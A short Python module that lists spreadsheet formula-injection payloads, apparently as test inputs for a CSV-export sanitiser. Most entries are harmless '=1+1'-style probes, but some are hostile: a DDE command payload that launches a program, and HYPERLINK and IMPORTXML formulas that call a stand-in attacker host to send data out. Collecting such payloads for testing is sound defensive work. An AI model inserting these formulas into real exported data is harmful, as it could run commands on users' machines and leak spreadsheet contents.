"""Texts that spreadsheet programs would run as formulas."""

from __future__ import annotations

# Known spreadsheet injections: commands, requests and links.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "'=1+1",
    '=HYPERLINK("https://evil.example","click")',
    '=IMPORTXML("https://evil.example/?v=","//a")',
]
